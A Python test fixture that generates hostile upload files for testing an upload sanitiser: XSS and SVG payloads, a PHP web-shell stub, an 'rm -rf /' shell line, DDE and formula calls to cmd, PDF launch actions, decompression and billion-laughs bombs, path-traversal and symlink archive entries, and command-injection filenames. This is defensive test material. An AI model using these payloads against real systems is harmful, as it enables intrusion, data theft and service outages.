"""Three hundred files that nobody honest sends. Every family is made here, from nothing but the formats' rules."""

import gzip
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO
from random import Random
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from PIL import Image, PngImagePlugin

from tests.files import letter, pdf, picture, recording, zipped
from tests.uploads.daemons import VIRUS

CANARY = b"Nguyen-Bi-Mat-10.7769N-106.7009E"
SCRIPT = b"<script>alert('" + CANARY + b"')</script>"


@dataclass(frozen=True)
class Beast:
    """A hostile file; `is_refused` is None where either will do, as long as nothing of it stays active."""

    family: str
    name: str
    content: bytes
    is_refused: bool | None = True


def zoo() -> Iterator[Beast]:
    """All of them, family by family."""
    yield from _markup()
    yield from _programs()
    yield from _pictures_with_more()
    yield from _too_many_pixels()
    yield from _damaged()
    yield from _active_papers()
    yield from _sick_papers()
    yield from _bombs()
    yield from _active_letters()
    yield from _recordings()
    yield from _names()


def _markup() -> Iterator[Beast]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
    contents = [svg, b"\xef\xbb\xbf" + svg, b'<?xml version="1.0"?>' + svg, gzip.compress(svg), b"<html>" + SCRIPT]
    contents += [
        SCRIPT,
        b"<!DOCTYPE html>" + SCRIPT,
        b"GIF89a" + SCRIPT,
        b"MIME-Version: 1.0\n\n" + SCRIPT,
        b"%!PS " + SCRIPT,
    ]
    for number, content in enumerate(contents):
        for ending in ("svg", "html", "png", "pdf"):
            yield Beast("markup", f"{number}.{ending}", content)


def _programs() -> Iterator[Beast]:
    heads = (
        b"MZ\x90\0",
        b"\x7fELF\2\1\1",
        b"#!/bin/sh\nrm -rf /",
        b"<?php system($_GET[0]);",
        b"L\0\0\0\1\x14\2\0",
        b"\xca\xfe\xba\xbe",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"7z\xbc\xaf'\x1c",
        b"Rar!\x1a\7\0",
        VIRUS,
        b"=cmd|'/c calc'!A1",
        b"\0" * 100,
        b"{\\rtf1\\object}",
    )
    for number, head in enumerate(heads):
        for ending in ("exe", "jpg"):
            yield Beast("program", f"{number}.{ending}", head + b"\0" * 64)


def _pictures_with_more() -> Iterator[Beast]:
    for kind, ending in (("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp")):
        exif = Image.Exif()
        exif[0x010E], exif[0x013B] = SCRIPT.decode(), CANARY.decode()
        told = {"exif": exif}
        if kind == "PNG":
            notes = PngImagePlugin.PngInfo()
            notes.add_text("Comment", SCRIPT.decode())
            told["pnginfo"] = notes
        if kind == "JPEG":
            told |= {"comment": SCRIPT, "xmp": b"<x:xmpmeta>" + CANARY + b"</x:xmpmeta>"}
        if kind == "WEBP":
            told |= {"xmp": SCRIPT}
        carrier = picture(kind, **told)
        for number, more in enumerate(
            (
                b"",
                SCRIPT,
                zipped({"a.class": SCRIPT}),
                pdf(catalog="/OpenAction<</S/JavaScript/JS(x)>>"),
                b"<?php " + CANARY,
                VIRUS,
            )
        ):
            yield Beast("picture with more", f"{number}.{ending}", carrier + more, False)


def _png(width: int, height: int, rows: bytes, depth: int = 8, color: int = 2) -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack("!L", len(body)) + name + body + struct.pack("!L", zlib.crc32(name + body))

    head = struct.pack("!LLBBBBB", width, height, depth, color, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _too_many_pixels() -> Iterator[Beast]:
    nothing = zlib.compress(b"\0" * 1_000_000)
    for width, height in ((16_000, 16_000), (65_535, 65_535), (2**31 - 1, 2**31 - 1), (1, 2**30), (2**30, 1), (0, 0)):
        yield Beast("pixels", f"{width}.png", _png(width, height, nothing))
    yield Beast("pixels", "many.png", _png(13_000, 13_000, zlib.compress(bytes(13_000 * 13_001 // 8), 9), 1, 0))
    small = picture("JPEG")
    place = small.index(b"\xff\xc0") + 5
    for side in (65_535, 30_000, 0):
        yield Beast("pixels", f"{side}.jpg", small[:place] + struct.pack("!HH", side, side) + small[place + 4 :])
    flood = BytesIO()
    first, *more = [Image.new("RGB", (400, 400), (number, 0, 0)) for number in range(120)]
    first.save(flood, "WEBP", save_all=True, append_images=more)
    yield Beast("pixels", "film.webp", flood.getvalue(), False)


def _damaged() -> Iterator[Beast]:
    random = Random(7)
    for kind, ending in (("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp")):
        noise = BytesIO()
        Image.frombytes("RGB", (64, 64), random.randbytes(64 * 64 * 3)).save(noise, kind)
        whole = noise.getvalue()
        for part in range(1, 9):
            yield Beast("damaged", f"cut{part}.{ending}", whole[: len(whole) * part // 9], None)
        for number in range(12):
            yield Beast("damaged", f"flip{number}.{ending}", _flipped(whole, random, 12), None)


def _flipped(whole: bytes, random: Random, keep: int) -> bytes:
    changed = bytearray(whole)
    for _time in range(6):
        changed[random.randrange(keep, len(changed))] = random.randrange(256)
    return bytes(changed)


_ACTS = (
    "/S/JavaScript/JS(app.alert\\(1\\))",
    "/S/Launch/F(cmd.exe)",
    "/S/URI/URI(http://x.example/)",
    "/S/SubmitForm/F(http://x.example/)",
    "/S/GoToR/F(\\\\\\\\x\\\\a)",
    "/S/ImportData/F(x)",
    "/S/GoToE",
)


def _active_papers() -> Iterator[Beast]:
    for number, act in enumerate(_ACTS):
        yield Beast("active paper", f"open{number}.pdf", pdf(catalog=f"/OpenAction<<{act}>>"), False)
        yield Beast("active paper", f"aa{number}.pdf", pdf(page=f"/AA<</O<<{act}>>>>"), False)
        note = f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 500 800]/A<<{act}>>/T({CANARY.decode()})>>]"
        yield Beast("active paper", f"link{number}.pdf", pdf(page=note), False)
    told = CANARY.decode()
    more = f"50 0 obj<</Length {len(SCRIPT)}/Type/EmbeddedFile>>stream\n{SCRIPT.decode()}\nendstream endobj"
    names = "/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 50 0 R>>>>]>>>>"
    yield Beast("active paper", "attached.pdf", pdf(catalog=names, more=more), False)
    yield Beast(
        "active paper", "names.pdf", pdf(catalog="/Names<</JavaScript<</Names[(a)<<" + _ACTS[0] + ">>]>>>>"), False
    )
    form = "/AcroForm<</XFA 50 0 R/Fields[<</FT/Tx/T(a)/V(b)/AA<</K<<" + _ACTS[0] + ">>>>>>]>>"
    yield Beast("active paper", "form.pdf", pdf(catalog=form, more=more), False)
    film = "/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>><</Type/Annot/Subtype/Movie/Rect[0 0 9 9]>>]"
    yield Beast("active paper", "film.pdf", pdf(page=film), False)
    who = pdf(more=f"60 0 obj<</Author({told})/Title({told})/Producer({told})>>endobj").replace(
        b"/Root 1 0 R", b"/Root 1 0 R/Info 60 0 R"
    )
    yield Beast("active paper", "author.pdf", who, False)
    yield Beast("active paper", "html.pdf", pdf() + SCRIPT, False)
    yield Beast("active paper", "zip.pdf", pdf() + zipped({"a": SCRIPT}), False)


def _sick_papers() -> Iterator[Beast]:
    random = Random(11)
    whole = pdf("mot", "hai")
    for part in range(1, 9):
        yield Beast("sick paper", f"cut{part}.pdf", whole[: len(whole) * part // 9], None)
    for number in range(14):
        yield Beast("sick paper", f"flip{number}.pdf", _flipped(whole, random, 8), None)
    for box in ("[0 0 1e9 1e9]", "[0 0 0 0]", "[0 0 -5 -5]", "[0 0 14400 14400]", "[]", "[0 0 99999999999999999999 1]"):
        yield Beast("sick paper", f"box{len(box)}.pdf", pdf().replace(b"[0 0 595 842]", box.encode()), None)
    yield Beast("sick paper", "loop.pdf", pdf().replace(b"/Kids[10 0 R]", b"/Kids[2 0 R]"), None)
    yield Beast("sick paper", "count.pdf", pdf().replace(b"/Count 1", b"/Count 2000000000"), None)
    yield Beast("sick paper", "minus.pdf", pdf().replace(b"/Count 1", b"/Count -1"), None)
    yield Beast("sick paper", "pages.pdf", pdf(*["x"] * 3000))
    yield Beast("sick paper", "deep.pdf", pdf(catalog="/A" + "[" * 100_000 + "]" * 100_000), None)
    yield Beast(
        "sick paper",
        "lock.pdf",
        pdf().replace(
            b"/Root 1 0 R",
            b"/Root 1 0 R/Encrypt<</Filter/Standard/V 1/R 2/P -1/O<"
            + b"00" * 32
            + b">/U<"
            + b"00" * 32
            + b">>>/ID[<00><00>]",
        ),
    )
    yield Beast(
        "sick paper", "again.pdf", pdf().replace(b"/Contents 11 0 R", b"/Contents[" + b"11 0 R " * 100_000 + b"]"), None
    )
    bomb = zlib.compress(b"0 0 1 1 re f " * 8_000_000, 9)
    head = f"70 0 obj<</Length {len(bomb)}/Filter/FlateDecode>>stream\n".encode()
    paper = (
        pdf()
        .replace(b"/Contents 11 0 R", b"/Contents 70 0 R")
        .replace(b"trailer", head + bomb + b"\nendstream endobj\ntrailer")
    )
    yield Beast("sick paper", "bomb.pdf", paper, None)
    form = (
        "80 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 80 0 R>>>>/Length 4>>"
        "stream\n/X Do\nendstream endobj"
    )
    yield Beast("sick paper", "self.pdf", pdf(more=form).replace(b"/Font<<", b"/XObject<</X 80 0 R>>/Font<<"), None)
    huge = (
        "90 0 obj<</Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"
        "/Length 3>>stream\nabc\nendstream endobj"
    )
    drawn = pdf(more=huge).replace(b"/Font<<", b"/XObject<</I 90 0 R>>/Font<<").replace(b"BT ", b"/I Do BT ")
    yield Beast("sick paper", "huge.pdf", drawn, None)
    for coding in ("JBIG2Decode", "JPXDecode", "CCITTFaxDecode", "DCTDecode", "LZWDecode", "RunLengthDecode"):
        image = huge.replace("60000", "64").replace("/Length 3", f"/Filter/{coding}/Length 3")
        yield Beast(
            "sick paper", f"{coding}.pdf", pdf(more=image).replace(b"/Font<<", b"/XObject<</I 90 0 R>>/Font<<"), None
        )


def _bombs() -> Iterator[Beast]:
    yield Beast("bomb", "wide.docx", _packed({"word/media/image1.png": bytes(200_000_000)}))
    yield Beast("bomb", "text.docx", _packed({"word/extra.xml": b"<a>" + b" " * 80_000_000 + b"</a>"}))
    yield Beast("bomb", "many.docx", letter(parts={f"word/{number}.xml": "<a/>" for number in range(5000)}))
    yield Beast("bomb", "nested.docx", letter(parts={"word/embeddings/a.zip": zipped({"b": zipped({"c": b"0"})})}))
    yield Beast("bomb", "twice.docx", letter().replace(b"word/document.xml", b"word/document.xmL"), None)
    lying = bytearray(_packed({"word/extra.xml": b"<a>" + b" " * 3_000_000 + b"</a>"}))
    place = lying.rindex(b"PK\1\2")
    lying[place + 24 : place + 28] = struct.pack("<L", 10)
    yield Beast("bomb", "lying.docx", bytes(lying), None)
    laughs = (
        '<!DOCTYPE a [<!ENTITY a "ha">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
        + "]><a>&j;</a>"
    )
    yield Beast("bomb", "laughs.docx", letter(parts={"word/extra.xml": laughs}))
    yield Beast("bomb", "laughs16.docx", letter(parts={"word/extra.xml": laughs.encode("utf-16")}))
    deep = "<a>" * 200_000 + "</a>" * 200_000
    yield Beast("bomb", "deep.docx", letter(parts={"word/extra.xml": deep}), None)
    yield Beast("bomb", "attributes.docx", letter("<w:p " + " ".join(f'a{n}="1"' for n in range(200_000)) + "/>"), None)
    for number in range(6):
        yield Beast("bomb", f"any{number}.zip", zipped({f"{number}.txt": b"0" * number}))
    for part in range(1, 6):
        whole = letter()
        yield Beast("bomb", f"cut{part}.docx", whole[: len(whole) * part // 6], None)


def _packed(parts: dict[str, bytes]) -> bytes:
    packed = BytesIO(letter())
    with ZipFile(packed, "a") as made:
        for name, content in parts.items():
            made.writestr(name, content, ZIP_DEFLATED, 9)
    return packed.getvalue()


_OUT = '<Relationship Id="r9" Type="http://x/{}" Target="{}" TargetMode="External"/>'


def _active_letters() -> Iterator[Beast]:
    for name in (
        "word/vbaProject.bin",
        "word/activeX/activeX1.xml",
        "word/embeddings/oleObject1.bin",
        "word/macros.xml",
        "customUI/customUI.xml",
        "xl/externalLinks/externalLink1.xml",
        "xl/connections.xml",
        "xl/macrosheets/sheet1.xml",
        "xl/queryTables/queryTable1.xml",
        "word/webextensions/w.xml",
    ):
        yield Beast("active letter", f"{name[-12:]}.docx", letter(parts={name: "<a/>"}))
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield Beast("active letter", "macro.docx", letter(main=enabled))
    yield Beast("active letter", "macro.docm", letter(main=enabled))
    for kind, target in (
        ("attachedTemplate", "http://x.example/a.dotm"),
        ("image", "http://x.example/a.png"),
        ("frame", "\\\\x\\a"),
        ("oleObject", "file:///c:/a"),
        ("hyperlink", "file:///c:/a.exe"),
        ("hyperlink", "javascript:alert(1)"),
        ("subDocument", "http://x.example/a"),
        ("image", "\\\\x.example\\a.png"),
    ):
        yield Beast("active letter", f"{kind}.docx", letter(links=_OUT.format(kind, target)))
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("DD", "EAU", 'TO c:\\\\cmd "/c calc"'))
    fields = [
        runs,
        '<w:fldSimple w:instr="DDE cmd x"/>',
        '<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://x&quot;"/>',
    ]
    for number, field in enumerate(fields):
        yield Beast("active letter", f"field{number}.docx", letter(f"<w:p>{field}</w:p>"))
    for number, formula in enumerate(("cmd|'/c calc'!A1", 'WEBSERVICE("http://x")', 'CALL("a","b")', 'RTD("a",,"b")')):
        yield Beast(
            "active letter",
            f"formula{number}.xlsx",
            letter(parts={"xl/worksheets/sheet1.xml": f"<a><f>{formula}</f></a>"}),
        )
    parts = {"docProps/core.xml": f"<a>{CANARY.decode()}</a>", "docProps/custom.xml": f"<a>{CANARY.decode()}</a>"}
    ins = f'<w:ins w:author="{CANARY.decode()}" w:id="1"><w:r><w:t>a</w:t></w:r></w:ins><!-- {CANARY.decode()} -->'
    exif = Image.Exif()
    exif[0x013B] = CANARY.decode()
    media = {
        "word/media/image1.jpeg": picture("JPEG", exif=exif),
        "docProps/thumbnail.jpeg": picture("JPEG", exif=exif),
    }
    yield Beast("author", "author.docx", letter(f"<w:p>{ins}</w:p>", parts=parts | media), False)
    for name in (
        "../../etc/cron.d/x",
        "/etc/passwd",
        "word/../../x.xml",
        "word\\..\\x.xml",
        "C:\\x.xml",
        "word/a.html",
        "word/a.svg",
    ):
        yield Beast("author", "slip.docx", letter(parts={name: SCRIPT}), False)
    link = ZipInfo("word/link.xml")
    link.external_attr = 0o120777 << 16
    packed = BytesIO(letter())
    with ZipFile(packed, "a") as made:
        made.writestr(link, "/etc/passwd")
    yield Beast("author", "symlink.docx", packed.getvalue(), None)


def _recordings() -> Iterator[Beast]:
    tag = b"ID3\3\0\0" + bytes([0, 0, len(SCRIPT) >> 7, len(SCRIPT) & 127]) + SCRIPT
    yield Beast("recording", "tag.mp3", tag + recording() + b"TAG" + CANARY.ljust(125, b"\0"), False)
    yield Beast("recording", "html.mp3", recording() + SCRIPT, False)
    yield Beast("recording", "only.mp3", tag)
    yield Beast("recording", "endless.mp3", b"ID3\3\0\0\x7f\x7f\x7f\x7f" + SCRIPT)
    yield Beast("recording", "ff.mp3", b"\xff\xfb" + b"\xff" * 1_000_000)
    yield Beast("recording", "script.mp3", b"\xff\xfb" + SCRIPT * 100)


def _names() -> Iterator[Beast]:
    good = picture()
    for name in (
        "../../a.png",
        "..\\..\\a.png",
        "/etc/a.png",
        "C:\\a.png",
        "a\u202egnp.exe",
        "a.png.exe",
        "con.png",
        ".htaccess",
        "a" * 250 + ".png",
        "<img src=x onerror=alert(1)>.png",
        "a;b.png",
        'a"b.png',
        "a\tb.png",
        "%00.png",
        "a.php%00.png",
        "~/.ssh/a.png",
        "$(id).png",
        "`id`.png",
        "{{7*7}}.png",
        "a.png ",
        "....png",
        "é́́́.png",
    ):
        yield Beast("name", name, good, False)
